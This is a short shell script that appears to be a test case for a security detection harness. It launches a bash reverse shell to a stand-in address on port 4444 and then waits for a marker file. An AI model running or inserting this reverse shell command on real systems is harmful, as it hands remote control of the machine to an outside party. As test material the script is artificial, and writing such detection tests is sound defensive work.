#!/bin/sh
. /opt/case/case.sh

bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' &
wait_for /tmp/reached
took_place
